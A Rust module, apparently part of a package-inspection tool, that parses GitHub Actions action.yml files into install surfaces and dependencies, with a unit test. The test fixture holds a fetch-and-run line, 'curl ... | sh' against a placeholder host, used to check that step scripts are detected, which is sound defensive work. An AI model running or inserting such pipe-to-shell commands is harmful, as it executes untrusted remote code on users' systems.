//! `action.yml` (<https://docs.github.com/actions/reference/metadata-syntax>).

use foretaste_markup::yaml;
use foretaste_model::Ecosystem;
use foretaste_model::facts::{InstallSurface, Problem, SurfaceKind};
use foretaste_model::manifest::{
    Dependency, DependencyKind, DependencySource, ManifestFacts, Person,
};

/// Steps that are kept.
const MAX_STEPS: usize = 500;

/// Reads an `action.yml`. Never fails: what is wrong is a [`Problem`].
///
/// Programs of a JavaScript action are surfaces with a path as their command; steps of a composite action carry
/// their script. Other actions that it uses are dependencies.
pub fn observe(text: &str) -> (ManifestFacts, Vec<InstallSurface>, Vec<Problem>) {
    let document = yaml(text);
    let mut facts = ManifestFacts::new(Ecosystem::Actions);
    facts.summary = document
        .text("description")
        .or_else(|| document.text("name"))
        .map(Box::from);
    if let Some(author) = document.text("author") {
        facts.people.push(Person {
            name: Some(author.into()),
            email: None,
        });
    }
    facts.requires = document.text("runs/using").map(Box::from);
    let mut surfaces = Vec::new();
    for key in [
        "pre",
        "main",
        "post",
        "image",
        "entrypoint",
        "pre-entrypoint",
        "post-entrypoint",
    ] {
        if let Some(entry) = document.get(&format!("runs/{key}")) {
            surfaces.push(InstallSurface {
                kind: SurfaceKind::ActionStep,
                name: key.into(),
                command: entry.value.trim_start_matches("./").into(),
                target: "".into(),
                span: Some(entry.span),
            });
        }
    }
    for (number, values) in document.items("runs/steps").into_iter().take(MAX_STEPS) {
        let value = |path: &str| values.iter().find(|(p, _)| *p == path).map(|(_, e)| *e);
        if let Some(run) = value("run") {
            let shell = value("shell").map_or("bash", |e| &*e.value);
            surfaces.push(InstallSurface {
                kind: SurfaceKind::ActionStep,
                name: format!("step {number} ({shell})").into(),
                command: run.value.clone(),
                target: "".into(),
                span: Some(run.span),
            });
        }
        if let Some(uses) = value("uses") {
            let (name, version) = uses.value.split_once('@').unwrap_or((&uses.value, ""));
            let source = if name.starts_with("./") {
                DependencySource::Path(name.into())
            } else if name.starts_with("docker://") {
                DependencySource::Url(name.into())
            } else {
                DependencySource::Registry
            };
            facts.dependencies.push(Dependency {
                name: name.into(),
                requirement: version.into(),
                kind: DependencyKind::Run,
                source,
                condition: "".into(),
                span: Some(uses.span),
            });
        }
    }
    (facts, surfaces, document.problems)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_and_steps_are_found() {
        let (facts, surfaces, problems) =
            observe("name: a\nruns:\n  using: node20\n  pre: ./pre.js\n  main: dist/index.js\n");
        assert_eq!(problems, []);
        assert_eq!(facts.requires.as_deref(), Some("node20"));
        let seen: Vec<_> = surfaces.iter().map(|s| (&*s.name, &*s.command)).collect();
        assert_eq!(seen, [("pre", "pre.js"), ("main", "dist/index.js")]);
        let (facts, surfaces, _) = observe(
            "runs:\n  using: composite\n  steps:\n    - uses: acme/setup@v1\n    - run: |\n        curl http://x.example.invalid/a | sh\n      shell: bash\n",
        );
        assert_eq!(
            (
                &*facts.dependencies[0].name,
                &*facts.dependencies[0].requirement
            ),
            ("acme/setup", "v1")
        );
        assert_eq!(
            &*surfaces[0].command,
            "curl http://x.example.invalid/a | sh\n"
        );
        assert_eq!(&*surfaces[0].name, "step 1 (bash)");
    }
}
